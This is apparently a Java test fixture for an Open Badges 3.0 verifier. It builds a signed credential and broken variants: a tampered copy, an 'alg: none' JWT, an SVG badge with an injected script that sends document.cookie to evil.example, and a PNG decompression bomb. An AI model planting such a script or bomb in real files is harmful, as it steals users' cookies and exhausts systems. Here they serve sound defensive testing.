package io.guildmark.app.verification;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import java.util.Base64;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

import javax.imageio.ImageIO;

import io.guildmark.credentials.baking.BakedCredential;
import io.guildmark.credentials.baking.BakingException;
import io.guildmark.credentials.baking.PngBaker;
import io.guildmark.credentials.baking.SvgBaker;
import io.guildmark.credentials.did.DidKeyResolver;
import io.guildmark.credentials.jwt.JwtSigningKey;
import io.guildmark.credentials.jwt.VcJwt;
import io.guildmark.credentials.ob3.IdentityObject;
import io.guildmark.credentials.proof.EddsaRdfc2022;
import io.guildmark.credentials.proof.Ed25519KeyPair;
import io.guildmark.credentials.proof.ProofOptions;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;

/**
 * The Harbor Guild, an issuer identified by a {@code did:key} (so verifying its badges needs no network), and the
 * Open Badges 3.0 credentials it awards to Jane Doe: signed JSON, VC-JWT, baked PNG and SVG, and broken copies.
 */
final class VerificationFixture {

    static final Ed25519KeyPair KEY = Ed25519KeyPair.generate();
    static final String ISSUER = DidKeyResolver.didFor(KEY.publicKey());
    static final String KEY_ID = DidKeyResolver.verificationMethodFor(KEY.publicKey());
    static final String EMAIL = "jane.doe@example.org";
    static final String ACHIEVEMENT = "Rigging inspection";
    private static final EddsaRdfc2022 SUITE = EddsaRdfc2022.create();

    private VerificationFixture() {}

    /** An unsigned OB 3.0 AchievementCredential that passes the schema. */
    static JsonObjectBuilder credential() {
        return Json.createObjectBuilder()
                .add("@context", Json.createArrayBuilder().add("https://www.w3.org/ns/credentials/v2")
                        .add("https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json"))
                .add("id", "urn:uuid:6f1c2a3e-8d4b-4e5f-9a1b-2c3d4e5f6a7b")
                .add("type", Json.createArrayBuilder().add("VerifiableCredential").add("OpenBadgeCredential"))
                .add("issuer", Json.createObjectBuilder().add("id", ISSUER)
                        .add("type", Json.createArrayBuilder().add("Profile")).add("name", "Harbor Guild"))
                .add("validFrom", "2026-01-15T09:30:00Z")
                .add("name", ACHIEVEMENT)
                .add("credentialSubject", Json.createObjectBuilder()
                        .add("type", Json.createArrayBuilder().add("AchievementSubject"))
                        .add("identifier", Json.createArrayBuilder()
                                .add(IdentityObject.hashedEmail(EMAIL, "sea-salt-42").toJson())
                                .add(Json.createObjectBuilder().add("type", "IdentityObject")
                                        .add("identityHash", "Jane Doe").add("identityType", "name").add("hashed", false)))
                        .add("achievement", Json.createObjectBuilder()
                                .add("id", "https://harbor.example.org/achievements/rigging-inspection")
                                .add("type", Json.createArrayBuilder().add("Achievement"))
                                .add("name", ACHIEVEMENT)
                                .add("description", "Inspects cranes and rigging against the harbor safety code.")
                                .add("criteria", Json.createObjectBuilder().add("narrative", "Pass the observed inspection."))));
    }

    static JsonObject signed(JsonObjectBuilder credential) {
        return SUITE.sign(credential.build(), ProofOptions.assertion(KEY_ID, Instant.parse("2026-01-15T09:30:00Z")), KEY);
    }

    static String signedJson() {
        return signed(credential()).toString();
    }

    /** The same credential, signed but with its name changed afterwards. */
    static String tamperedJson() {
        return Json.createObjectBuilder(signed(credential())).add("name", "Rigging master").build().toString();
    }

    static String jwt() {
        return VcJwt.sign(credential().build(), JwtSigningKey.ed25519(KEY.privateKey(), KEY.publicKey(), KEY_ID));
    }

    /** A JWT whose header says {@code alg: none}, with no signature. */
    static String unsignedJwt() {
        Base64.Encoder b64 = Base64.getUrlEncoder().withoutPadding();
        return b64.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + b64.encodeToString(credential().add("iss", ISSUER).build().toString().getBytes(StandardCharsets.UTF_8)) + ".";
    }

    static byte[] plainPng() {
        BufferedImage image = new BufferedImage(64, 64, BufferedImage.TYPE_INT_RGB);
        var g = image.createGraphics();
        g.setColor(new Color(0x1d4ed8));
        g.fillOval(4, 4, 56, 56);
        g.dispose();
        var out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, "png", out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] plainSvg() {
        return ("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\" viewBox=\"0 0 64 64\">"
                + "<circle cx=\"32\" cy=\"32\" r=\"28\" fill=\"#1d4ed8\"/></svg>").getBytes(StandardCharsets.UTF_8);
    }

    static byte[] bakedPng() {
        try {
            return new PngBaker().bake(plainPng(), signedJson(), BakedCredential.Format.OB3_JSON);
        } catch (BakingException e) {
            throw new IllegalStateException(e);
        }
    }

    static byte[] bakedSvg() {
        try {
            return new SvgBaker().bake(plainSvg(), signedJson(), BakedCredential.Format.OB3_JSON);
        } catch (BakingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A badge SVG that also runs a script when opened. */
    static byte[] bakedSvgWithScript() {
        String svg = new String(bakedSvg(), StandardCharsets.UTF_8);
        return svg.replaceFirst("</svg>\\s*$", "<script>fetch('https://evil.example/?c=' + document.cookie)</script></svg>")
                .getBytes(StandardCharsets.UTF_8);
    }

    /**
     * A PNG with a compressed iTXt {@code openbadgecredential} chunk that inflates from about 50 KB to 50 MB of
     * spaces: a decompression bomb.
     */
    static byte[] decompressionBombPng() {
        byte[] spaces = new byte[50 * 1024 * 1024];
        Arrays.fill(spaces, (byte) ' ');
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        deflater.setInput(spaces);
        deflater.finish();
        var compressed = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 * 1024];
        while (!deflater.finished()) compressed.write(buffer, 0, deflater.deflate(buffer));
        deflater.end();
        var data = new ByteArrayOutputStream();
        data.writeBytes("openbadgecredential".getBytes(StandardCharsets.ISO_8859_1));
        data.writeBytes(new byte[] {0, 1, 0, 0, 0}); // end of keyword, compressed, zlib, empty language, empty translation
        data.writeBytes(compressed.toByteArray());
        byte[] png = plainPng();
        int iend = png.length - 12; // IEND is the last chunk: length 0, type, CRC
        var out = new ByteArrayOutputStream();
        out.write(png, 0, iend);
        out.writeBytes(chunk("iTXt", data.toByteArray()));
        out.write(png, iend, 12);
        return out.toByteArray();
    }

    private static byte[] chunk(String type, byte[] data) {
        ByteBuffer chunk = ByteBuffer.allocate(12 + data.length);
        chunk.putInt(data.length).put(type.getBytes(StandardCharsets.ISO_8859_1)).put(data);
        CRC32 crc = new CRC32();
        crc.update(chunk.array(), 4, 4 + data.length);
        chunk.putInt((int) crc.getValue());
        return chunk.array();
    }
}
